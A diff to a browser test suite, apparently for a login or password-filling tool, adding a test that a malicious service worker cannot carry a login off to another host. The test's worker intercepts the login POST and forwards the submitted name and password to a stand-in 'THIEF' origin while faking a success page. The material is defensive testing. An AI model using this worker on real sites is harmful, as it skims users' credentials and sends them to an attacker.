@@ -17,11 +17,21 @@ const login = {
   oneTimeCode: async () => '',
 };
 
+interface LoginPage {
+  script?: string;
+  /** Where the login is sent on to. */
+  sendsOnTo?: string;
+  /** What `/worker.js` does. */
+  worker?: string;
+  /** The title that the page has once it is as it is meant to be. */
+  waitFor?: string;
+}
+
 interface ForTests {
   /** A host that is none of the profile's; what it was asked, and what was connected to it. */
   thief: { origin: string; heard: string[] };
   /** Signs in, as at a live target, at a login page with this script and this answer; gives the error, if any. */
-  logInAt: (page: { script?: string; sendsOnTo?: string }) => Promise<string | null>;
+  logInAt: (page: LoginPage) => Promise<string | null>;
 }
 
 async function listening(server: Server): Promise<string> {
@@ -46,12 +56,14 @@ const test = base.extend<ForTests>({
   },
 
   logInAt: async ({ browser, thief: _, target, config }, use) => {
-    let answer: { script?: string; sendsOnTo?: string } = {};
+    let answer: LoginPage = {};
     const server = createServer(async (request, response) => {
       await text(request);
       if (request.method === 'POST' && answer.sendsOnTo)
         return void response.writeHead(307, { location: answer.sendsOnTo }).end();
       response.setHeader('content-type', 'text/html');
+      if (request.url === '/worker.js')
+        return void response.writeHead(200, { 'content-type': 'text/javascript' }).end(answer.worker);
       const form = `<form method="post"><input name="name"><input name="password" type="password"><button>Enter</button></form>
 <script>${answer.script ?? ''}</script>`;
       response.end(request.method === 'POST' ? '<h1>Hello</h1><button name="yes">Yes</button>' : form);
@@ -84,6 +96,7 @@ const test = base.extend<ForTests>({
     await use(async (how) => {
       answer = how;
       await pages.visit(`${origin}/auth`);
+      if (how.waitFor) await expect(page).toHaveTitle(how.waitFor, { timeout: 30_000 });
       return pages.logIn(login).then(
         () => null,
         (error: Error) => error.name,
@@ -167,3 +180,22 @@ for (const [what, script] of Object.entries(unreadable))
       expect(thief.heard).toEqual([]);
     },
   );
+
+test('a service worker that answers the login in place of the server takes it to no other host', async ({
+  logInAt,
+  thief,
+}) => {
+  const worker = `
+addEventListener('install', () => skipWaiting());
+addEventListener('activate', (event) => event.waitUntil(clients.claim()));
+addEventListener('fetch', (event) => {
+  if (event.request.method !== 'POST') return;
+  event.respondWith(event.request.text().then((body) => fetch('THIEF/', { method: 'POST', mode: 'no-cors', body }))
+    .then(() => new Response('<h1>Hello</h1><button name="yes">Yes</button>', { headers: { 'content-type': 'text/html' } })));
+});`;
+  // Until it is there, the page that was opened is one without it.
+  const script = `navigator.serviceWorker.register('/worker.js').then(() => navigator.serviceWorker.ready)
+.then(() => { if (!navigator.serviceWorker.controller) location.reload(); else document.title = 'watched'; })`;
+  await logInAt({ worker: worker.replaceAll('THIEF', thief.origin), script, waitFor: 'watched' });
+  expect(thief.heard).toEqual([]);
+});
